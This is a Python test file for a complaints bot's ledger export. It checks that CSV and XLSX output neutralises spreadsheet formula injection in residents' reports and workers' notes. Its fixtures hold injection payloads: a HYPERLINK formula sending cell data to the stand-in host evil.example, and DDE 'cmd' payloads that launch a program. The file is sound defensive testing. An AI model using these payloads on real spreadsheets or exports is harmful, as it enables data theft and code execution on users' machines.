"""The ledger export never hands a spreadsheet a formula (issue 12, point 6): residents' and workers'
texts that begin with = + - @ (or a tab) are written as text, in CSV with a leading quote (OWASP) and in
XLSX as strings with the quotePrefix style; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

from openpyxl import load_workbook

from bot.config import REPO_ROOT, Settings

REPO = REPO_ROOT
FORMULA = ("=", "+", "-", "@", "\t", "\r")
REPORTS = ('=HYPERLINK("http://evil.example/?d="&A1,"楼道灯不亮了")',
           "+cmd|' /C calc'!A0 楼道的灯坏了",
           "@SUM(1+1)*cmd|' /C calc'!A0 单元门口的路灯不亮")
NOTES = ("-2+3+cmd|' /C calc'!A0", "=1+1 已更换灯泡", "@已处理")


def export(settings: Settings, tmp_path: Path, *args: str) -> subprocess.CompletedProcess:
    """`minsheng export` as a user runs it, over the store the test server is using."""
    config = tmp_path / "export.toml"
    config.write_text(f'[storage]\npath = "{settings.storage.path}"\nurl = "{settings.storage.url}"\n', encoding="utf-8")
    out = subprocess.run([sys.executable, "-m", "bot", "export", *args, "--config", str(config)],
                         capture_output=True, text=True, cwd=REPO, timeout=60, check=False)
    assert out.returncode == 0, out.stderr
    return out


async def filed(sim) -> list[int]:
    """Three residents' formula-like reports; their worker resolves each with a formula-like note."""
    numbers = []
    for n, (text, note) in enumerate(zip(REPORTS, NOTES, strict=True)):
        who = f"r-csv{n}"
        await sim.resident(who, f"我住3号楼1单元10{n + 1}")
        number = int(re.search(r"编号 (\d+)", await sim.resident(who, text)).group(1))
        await sim.staff("li.na", f"接单 {number}")
        assert "已办结" in await sim.staff("li.na", f"办结 {number} {note}")
        numbers.append(number)
    stored = [r[0] for r in sim.db.execute("SELECT text FROM petitions ORDER BY id")]
    resolutions = [r[0] for r in sim.db.execute("SELECT resolution FROM petitions ORDER BY id")]
    assert all(s.startswith(FORMULA) for s in stored + resolutions), (stored, resolutions)
    return numbers


async def test_csv_cells_never_start_a_formula(sim, settings: Settings, tmp_path: Path) -> None:
    numbers = await filed(sim)
    out = export(settings, tmp_path, "--format", "csv", "--out", "-")
    table = list(csv.reader(io.StringIO(out.stdout.lstrip("\ufeff"))))
    header, body = table[0], table[1:]
    assert [int(r[0]) for r in body] == numbers                  # numbers stay plain numbers
    for row in body:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA), (cell, row)
    texts = {r[header.index("内容")] for r in body} | {r[header.index("办理结果")] for r in body}
    stored = {r[0] for r in sim.db.execute("SELECT text FROM petitions UNION SELECT resolution FROM petitions")}
    assert texts == {"'" + s for s in stored}                     # neutralised, not altered otherwise


async def test_xlsx_cells_are_strings_not_formulas(sim, settings: Settings, tmp_path: Path) -> None:
    numbers = await filed(sim)
    path = tmp_path / "ledger.xlsx"
    export(settings, tmp_path, "--format", "xlsx", "--out", str(path))
    sheet = load_workbook(path).active
    header = [c.value for c in sheet[1]]
    rows = list(sheet.iter_rows(min_row=2))
    assert [r[0].value for r in rows] == numbers and all(r[0].data_type == "n" for r in rows)
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA):
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    texts = {r[header.index("内容")].value for r in rows} | {r[header.index("办理结果")].value for r in rows}
    assert texts == set(REPORTS) | set(NOTES)                      # the text as written, no quote added
